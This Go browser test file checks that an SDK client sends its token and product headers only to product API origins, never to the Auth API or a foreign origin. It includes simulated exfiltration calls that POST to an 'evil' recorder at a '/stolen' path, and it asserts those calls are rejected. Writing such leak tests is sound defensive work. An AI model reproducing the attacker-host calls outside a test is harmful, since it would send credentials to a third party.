//go:build browser

package browsertest

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The headers of the options environment, userType and source.
var productHeaderNames = []string{"x-inbenta-env", "x-inbenta-user-type", "x-inbenta-source"}

const productOptions = `{environment: 'development', userType: 3, source: 'e2e-page'}`

// Every call that carries the token, through client.fetch or a session,
// and every session start carries the product headers; a page's own value
// for one wins. Nothing reaches another origin, preflights included, and
// the Auth API never gets them.
func TestProductHeadersReachProductOriginsOnly(t *testing.T) {
	evil := newRecorder(t)
	f := newFixture(t, evil.URL)
	f.createClient(productOptions)
	require.Equal(t, 200, eval[int](f, js(`fetch(%s + '/control', {headers: {'x-probe': '1'}}).then(r => r.status)`, evil.URL)))
	require.Len(t, evil.requests(), 2, "the recorder is reachable from the page: the control call and its preflight")
	evil.mu.Lock()
	evil.seen, evil.paths = nil, nil
	evil.mu.Unlock()

	got := eval[map[string]string](f, js(`(async (evil) => {
		const code = p => p.then(r => String(r.status), e => e.code);
		const chat = await client.session('chatbot');
		const search = await client.session('search');
		return {
			fetch: await code(client.fetch(client.apis.knowledge + '/v1/articles')),
			own: await code(client.fetch(client.apis.knowledge + '/v1/articles', {headers: {'X-Inbenta-Source': 'page-own'}})),
			chat: await code(chat.fetch(client.apis.chatbot + '/v1/conversation/message', {method: 'POST', body: '{"message":"hi"}'})),
			search: await code(search.fetch(client.apis.search + '/v1/tracking/events', {method: 'POST', body: '{}'})),
			evilFetch: await code(client.fetch(evil + '/stolen', {method: 'POST', body: '{}'})),
			evilSession: await code(chat.fetch(evil + '/prod/chatbot/v1/conversation/message', {method: 'POST', body: '{}'})),
		};
	})(%s)`, evil.URL))
	assert.Equal(t, map[string]string{"fetch": "200", "own": "200", "chat": "200", "search": "200",
		"evilFetch": "INVALID_ARGUMENT", "evilSession": "INVALID_ARGUMENT"}, got)
	assert.Empty(t, evil.requested(), "nothing reached the foreign origin")

	want := map[string]string{"x-inbenta-env": "development", "x-inbenta-user-type": "3", "x-inbenta-source": "e2e-page"}
	for _, product := range []string{"chatbot", "search", "knowledge"} {
		reqs := f.api.Requests(product)
		require.NotEmpty(t, reqs, product)
		for _, r := range reqs {
			for name, value := range want {
				if r.Path == "/prod/knowledge/v1/articles" && name == "x-inbenta-source" && r.Header.Get(name) == "page-own" {
					continue // the page's own value won
				}
				assert.Equal(t, value, r.Header.Get(name), "%s %s: %s", r.Method, r.Path, name)
			}
		}
	}
	sources := []string{}
	for _, r := range f.api.Requests("knowledge") {
		sources = append(sources, r.Header.Get("x-inbenta-source"))
	}
	assert.Equal(t, []string{"e2e-page", "page-own"}, sources, "a page's own value wins")
	assert.Equal(t, 1, f.api.SessionStarts("chatbot"))
	assert.Equal(t, 1, f.api.SessionStarts("search"))
	assertAuthAPIHasNoProductHeaders(t, f)
}

// In access-token mode the Auth API gets the token too (GET /apis,
// /refreshToken): never the product headers.
func TestProductHeadersNeverReachTheAuthAPIWithAnAccessToken(t *testing.T) {
	f := newFixture(t)
	tok := f.serverToken()
	f.createFromToken(tok, `Object.assign({apis: undefined, refresh: null}, `+productOptions+`)`)
	allStatus(t, sessionCalls(f, "chatbot", 2, true), 2)
	f.advanceClocks(19 * time.Minute) // inside the refresh window: renewed at /refreshToken
	allStatus(t, sessionCalls(f, "chatbot", 1, false), 1)
	require.Equal(t, 1, f.api.Count("apis"))
	require.Eventually(t, func() bool { return f.api.Count("refreshToken") == 1 }, 10*time.Second, 50*time.Millisecond)
	for _, r := range f.api.Requests("chatbot") {
		assert.Equal(t, "development", r.Header.Get("x-inbenta-env"), r.Path)
	}
	assertAuthAPIHasNoProductHeaders(t, f)
}

func assertAuthAPIHasNoProductHeaders(t *testing.T, f *fixture) {
	t.Helper()
	for _, route := range []string{"auth", "refreshToken", "apis"} {
		for _, name := range productHeaderNames {
			assert.Zero(t, f.api.CountWithHeader(route, name), "%s got %s", route, name)
		}
	}
	for _, r := range f.api.Requests("preflight") {
		if r.Path == "/v1/auth" || r.Path == "/v1/refreshToken" || r.Path == "/v1/apis" {
			assert.NotContains(t, r.Header.Get("Access-Control-Request-Headers"), "x-inbenta-env", r.Path)
		}
	}
}
